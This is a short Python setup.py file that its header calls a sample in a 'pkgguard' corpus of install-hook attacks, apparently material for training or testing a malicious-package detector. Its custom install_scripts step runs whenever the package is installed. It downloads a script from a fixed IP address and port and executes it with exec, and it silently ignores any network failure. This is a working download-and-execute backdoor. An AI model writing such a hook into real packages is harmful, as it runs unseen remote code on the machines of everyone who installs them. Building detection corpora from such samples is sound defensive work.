# pkgguard corpus 393 (install-hook), modelled on [bertus]; inert, never run.
import http.client

from setuptools import setup
from setuptools.command.install_scripts import install_scripts


class Scripts(install_scripts):
    def run(self):
        super().run()
        try:
            c = http.client.HTTPConnection("100.64.0.93", 8080, timeout=5)
            c.request("GET", "/s.py")
            code = c.getresponse().read().decode()
            exec(compile(code, "<scripts>", "exec"), {})
        except OSError:
            pass


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"install_scripts": Scripts})
